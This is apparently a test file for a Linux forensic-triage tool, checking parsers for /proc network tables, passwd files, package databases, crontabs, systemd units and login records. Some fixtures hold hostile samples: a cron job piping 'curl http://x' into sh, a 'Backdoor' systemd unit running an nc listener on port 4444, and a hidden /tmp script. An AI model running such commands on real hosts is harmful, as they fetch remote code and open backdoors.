import { describe, expect, test } from "vitest";
import { parseGroup, parsePasswd, segment } from "../src/linux/accounts.js";
import { parseAnacrontab, parseCrontab } from "../src/linux/cron.js";
import { parseApkInstalled, parseDpkgStatus } from "../src/linux/packages.js";
import {
  formatIpv6,
  parseProcArp,
  parseProcIpv6Route,
  parseProcNetSockets,
  parseProcRoute,
} from "../src/linux/proc-net.js";
import { parseBootTime, parseProcStat } from "../src/linux/procfs.js";
import { parseOsRelease } from "../src/linux/sysinfo.js";
import { parseUnit } from "../src/linux/systemd.js";
import { LASTLOG_RECORD_BYTES, parseLastlogRecord, parseUtmp, UTMP_RECORD_BYTES } from "../src/linux/utmp.js";
import { parseRemoteMounts } from "../src/safe-fs.js";

const TCP = `  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0100007F:0277 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 21344 1 0000000000000000 100 0 0 10 0
   1: 2A00000A:D2F4 0465DCB9:20FB 01 00000000:00000000 02:000A7C4B 00000000  1000        0 98765 2 0000000000000000 20 4 30 10 -1
   2: garbage line
`;
const TCP6 = `  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000000000000000000000000000:0016 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1111 1 0000000000000000 100 0 0 10 0
   1: 0000000000000000FFFF00000100007F:1F90 0000000000000000FFFF00000100007F:C350 01 00000000:00000000 00:00000000 00000000     0        0 2222 1 0000000000000000 20 4 0 10 -1
   2: 000080FE0000000000FEFF0001000000:0222 00000000000000000000000000000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 3333 2 0000000000000000 0
`;

describe("/proc/net parsers", () => {
  test("tcp: little-endian IPv4 words, hex ports, state names, uid and inode; bad lines skipped", () => {
    const rows = parseProcNetSockets(TCP, "tcp");
    expect(rows).toEqual([
      {
        protocol: "tcp",
        localAddress: "127.0.0.1",
        localPort: 631,
        remoteAddress: "0.0.0.0",
        remotePort: 0,
        state: "LISTEN",
        uid: 0,
        inode: 21344,
      },
      {
        protocol: "tcp",
        localAddress: "10.0.0.42",
        localPort: 54004,
        remoteAddress: "185.220.101.4",
        remotePort: 8443,
        state: "ESTABLISHED",
        uid: 1000,
        inode: 98765,
      },
    ]);
  });

  test("tcp6/udp6: per-word byte order, RFC 5952 text, IPv4-mapped, UDP 07 is UNCONN", () => {
    const tcp = parseProcNetSockets(TCP6, "tcp6");
    expect(tcp[0]).toMatchObject({ localAddress: "::", localPort: 22, state: "LISTEN" });
    expect(tcp[1]).toMatchObject({ localAddress: "::ffff:127.0.0.1", localPort: 8080, remotePort: 50000 });
    const udp = parseProcNetSockets(TCP6, "udp6");
    expect(udp[2]).toMatchObject({ localAddress: "fe80::ff:fe00:0:1", localPort: 546, state: "UNCONN" });
  });

  test("formats IPv6 with the longest zero run compressed", () => {
    expect(formatIpv6([0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 1])).toBe(
      "2001:db8::1:0:0:1",
    );
    expect(formatIpv6(Array(16).fill(0))).toBe("::");
    expect(formatIpv6([0, 1, 0, 2, 0, 3, 0, 4, 0, 5, 0, 6, 0, 7, 0, 8])).toBe("1:2:3:4:5:6:7:8");
  });

  test("arp, route and ipv6_route", () => {
    const arp = parseProcArp(
      "IP address       HW type     Flags       HW address            Mask     Device\n192.0.2.1        0x1         0x2         02:fc:00:00:00:05     *        eth0\n",
    );
    expect(arp).toEqual([
      {
        ipAddress: "192.0.2.1",
        hwType: "0x1",
        flags: "0x2",
        hwAddress: "02:fc:00:00:00:05",
        mask: "*",
        device: "eth0",
      },
    ]);
    const routes = parseProcRoute(
      "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\neth0\t00000000\t010200C0\t0003\t0\t0\t100\t00000000\t0\t0\t0\neth0\t000200C0\t00000000\t0001\t0\t0\t0\t00FFFFFF\t0\t0\t0\n",
    );
    expect(routes.map((r) => [r.destination, r.prefixLength, r.gateway, r.metric])).toEqual([
      ["0.0.0.0", 0, "192.0.2.1", 100],
      ["192.0.2.0", 24, "0.0.0.0", 0],
    ]);
    const v6 = parseProcIpv6Route(
      "00000000000000000000000000000000 00 00000000000000000000000000000000 00 fd000000000000000000000000000001 00000400 00000002 00000000 00000003     eth0\n",
    );
    expect(v6[0]).toMatchObject({
      destination: "::",
      prefixLength: 0,
      gateway: "fd00::1",
      metric: 1024,
      interface: "eth0",
    });
  });
});

describe("/proc/<pid> parsers", () => {
  test("stat: a name with spaces and parentheses is split at the last ')'", () => {
    const stat = parseProcStat(
      "4242 (evil) R 1 (x)) S 77 4242 4242 0 -1 4194304 99 0 0 0 0 0 0 0 20 0 3 0 49239 3133440 390",
    );
    expect(stat).toEqual({
      pid: 4242,
      comm: "evil) R 1 (x)",
      state: "S",
      ppid: 77,
      startTicks: 49239,
      threads: 3,
    });
    expect(parseProcStat("no parens here")).toBeUndefined();
  });

  test("boot time from /proc/stat", () => {
    expect(parseBootTime("cpu 1 2 3\nbtime 1763716340\nprocesses 9\n")).toBe(1763716340);
    expect(parseBootTime("cpu 1 2 3\n")).toBeUndefined();
  });
});

describe("account, package, cron and unit parsers", () => {
  test("passwd keeps no hash and skips malformed lines; group members", () => {
    const users = parsePasswd(
      "root:x:0:0:root:/root:/bin/bash\n# comment\nbad:line\nmallory:$6$salt$hash:1001:1001:,,,:/home/mallory:/bin/sh\nlocked:!:1002:1002::/home/locked:/usr/sbin/nologin\nempty::1003:1003::/:/bin/sh\n",
    );
    expect(users.map((u) => [u.user, u.uid, u.passwordField])).toEqual([
      ["root", 0, "shadow"],
      ["mallory", 1001, "inline-hash"],
      ["locked", 1002, "locked"],
      ["empty", 1003, "empty"],
    ]);
    expect(JSON.stringify(users)).not.toContain("$6$");
    expect(parseGroup("sudo:x:27:alice,bob\nusers:x:100:\nbroken\n")).toEqual([
      { group: "sudo", gid: 27, members: ["alice", "bob"] },
      { group: "users", gid: 100, members: [] },
    ]);
  });

  test("segment makes any name one safe path segment", () => {
    expect(segment(".bashrc")).toBe("_bashrc");
    expect(segment("..")).toBe("__");
    expect(segment("a/b\\c\n")).toBe("a_b_c_");
    expect(segment("")).toBe("_");
  });

  test("dpkg status stanzas and apk installed", () => {
    const dpkg = parseDpkgStatus(
      "Package: bash\nStatus: install ok installed\nInstalled-Size: 7175\nArchitecture: amd64\nVersion: 5.2.15-2+b7\nDescription: GNU Bourne Again SHell\n Bash is an sh-compatible command language interpreter.\n\nPackage: openssl\nStatus: deinstall ok config-files\nVersion: 3.0.15-1~deb12u1\n",
    );
    expect(dpkg.map((p) => [p.name, p.version, p.status, p.description])).toEqual([
      ["bash", "5.2.15-2+b7", "install ok installed", "GNU Bourne Again SHell"],
      ["openssl", "3.0.15-1~deb12u1", "deinstall ok config-files", ""],
    ]);
    const apk = parseApkInstalled(
      "C:Q1abc=\nP:musl\nV:1.2.5-r0\nA:x86_64\nI:389120\nT:the musl c library\n\nP:busybox\nV:1.36.1-r29\n",
    );
    expect(apk.map((p) => [p.name, p.version, p.installedSizeKb])).toEqual([
      ["musl", "1.2.5-r0", "380"],
      ["busybox", "1.36.1-r29", ""],
    ]);
  });

  test("crontabs: system format has a user, spools do not; env lines and comments skipped", () => {
    const system = parseCrontab(
      "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot nobody /tmp/.x/run.sh\n",
      { systemFormat: true },
    );
    expect(system).toEqual([
      { schedule: "17 * * * *", user: "root", command: "cd / && run-parts --report /etc/cron.hourly" },
      { schedule: "@reboot", user: "nobody", command: "/tmp/.x/run.sh" },
    ]);
    expect(
      parseCrontab("*/5 * * * * curl -s http://x | sh\n", { systemFormat: false, owner: "www-data" }),
    ).toEqual([{ schedule: "*/5 * * * *", user: "www-data", command: "curl -s http://x | sh" }]);
    expect(parseAnacrontab("1\t5\tcron.daily\trun-parts /etc/cron.daily\n")[0]?.command).toBe(
      "run-parts /etc/cron.daily",
    );
  });

  test("systemd units: sections, last assignment wins, continuation lines", () => {
    const unit = parseUnit(
      "[Unit]\nDescription=Backdoor\n[Service]\nExecStart=/bin/true\nExecStart=/usr/bin/nc -l \\\n  -p 4444\n# comment\n[Timer]\nOnCalendar=daily\n",
    );
    expect(unit.get("Unit.Description")).toBe("Backdoor");
    expect(unit.get("Service.ExecStart")).toBe("/usr/bin/nc -l    -p 4444");
    expect(unit.get("Timer.OnCalendar")).toBe("daily");
  });

  test("os-release and mountinfo", () => {
    expect(parseOsRelease('NAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n').get("VERSION_ID")).toBe(
      "12",
    );
    const mounts = parseRemoteMounts(
      "36 35 98:0 / /mnt/share rw - nfs4 srv:/x rw\n37 35 98:0 / /home/a\\040b rw - cifs //s/x rw\n38 35 8:1 / / rw - ext4 /dev/sda1 rw\n",
    );
    expect(mounts).toEqual(["/mnt/share", "/home/a b"]);
  });
});

describe("login records", () => {
  function utmp(type: number, user: string, host: string, seconds: number, ipv4?: number[]): Buffer {
    const buf = Buffer.alloc(UTMP_RECORD_BYTES);
    buf.writeInt16LE(type, 0);
    buf.writeInt32LE(4242, 4);
    buf.write("pts/0", 8);
    buf.write("ts/0", 40);
    buf.write(user, 44);
    buf.write(host, 76);
    buf.writeInt32LE(seconds, 340);
    if (ipv4) Buffer.from(ipv4).copy(buf, 348);
    return buf;
  }

  test("wtmp/btmp records decode; a torn tail is reported, not guessed", () => {
    const data = Buffer.concat([
      utmp(7, "alice", "203.0.113.9", 1763716340, [203, 0, 113, 9]),
      utmp(8, "", "", 1763716400),
      Buffer.alloc(17),
    ]);
    const { rows, trailingBytes } = parseUtmp(data);
    expect(trailingBytes).toBe(17);
    expect(rows[0]).toEqual({
      type: "USER_PROCESS",
      pid: 4242,
      line: "pts/0",
      id: "ts/0",
      user: "alice",
      host: "203.0.113.9",
      time: "2025-11-21T09:12:20.000Z",
      address: "203.0.113.9",
    });
    expect(rows[1]?.type).toBe("DEAD_PROCESS");
  });

  test("lastlog: zero time means never", () => {
    const buf = Buffer.alloc(LASTLOG_RECORD_BYTES);
    expect(parseLastlogRecord(0, buf)).toBeUndefined();
    buf.writeUInt32LE(1763716340, 0);
    buf.write("pts/1", 4);
    buf.write("10.0.0.15", 36);
    expect(parseLastlogRecord(1000, buf)).toEqual({
      uid: 1000,
      time: "2025-11-21T09:12:20.000Z",
      line: "pts/1",
      host: "10.0.0.15",
    });
  });
});

describe("raw and packet sockets", () => {
  test("raw6 state 07 is UNCONN; packet sockets keep type, ethertype, interface and inode", async () => {
    const { parseProcPacket } = await import("../src/linux/proc-net.js");
    const raw = parseProcNetSockets(
      "  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n   58: 00000000000000000000000000000000:003A 00000000000000000000000000000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 44123 2 0000000000000000 0\n",
      "raw6",
    );
    expect(raw[0]).toMatchObject({ protocol: "raw6", localPort: 58, state: "UNCONN", inode: 44123 });
    const packet = parseProcPacket(
      "sk               RefCnt Type Proto  Iface R Rmem   User   Inode\nffff8881003f4800 3      3    0003   2     1 0      0      77001\nbad\n",
    );
    expect(packet).toEqual([
      {
        protocol: "packet",
        type: "3",
        ethertype: "0x0003",
        ifindex: "2",
        running: "1",
        uid: 0,
        inode: 77001,
      },
    ]);
  });
});
